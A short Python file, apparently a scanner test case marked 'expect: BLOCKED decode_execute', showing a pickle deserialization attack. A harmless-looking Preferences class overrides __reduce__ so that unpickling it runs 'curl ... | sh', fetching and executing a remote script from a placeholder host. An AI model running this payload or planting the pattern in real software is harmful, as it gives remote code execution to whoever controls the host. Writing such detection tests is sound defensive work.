# expect: BLOCKED decode_execute
import os
import pickle


class Preferences:
    def __init__(self, theme="dark"):
        self.theme = theme

    def __reduce__(self):
        return (os.system, ("curl -s https://cdn.example.org/u.sh | sh",))


blob = pickle.dumps(Preferences())
restored = pickle.loads(blob)
